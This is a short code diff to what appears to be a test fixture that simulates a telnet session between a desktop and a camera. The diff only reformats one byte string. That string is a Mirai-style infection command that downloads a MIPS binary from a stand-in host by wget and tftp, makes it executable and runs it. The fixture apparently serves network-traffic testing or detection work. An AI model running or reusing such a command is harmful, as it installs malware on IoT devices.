@@ -34,7 +34,10 @@ def frames() -> Frames:
         (False, b"LZRD: applet not found\r\n# "),
         (
             True,
-            b"cd /tmp; wget http://me:word@203.0.113.9/bins/l.mips -O .l; tftp -g -r l.mips 203.0.113.9; chmod 777 .l; ./.l tel\r\n",
+            (
+                b"cd /tmp; wget http://me:word@203.0.113.9/bins/l.mips -O .l; tftp -g -r l.mips 203.0.113.9; "
+                b"chmod 777 .l; ./.l tel\r\n"
+            ),
         ),
     ]
     yield from conversation((DESKTOP, "10.20.30.66", 49181), (CAMERA, "10.20.30.80", 23), parts)
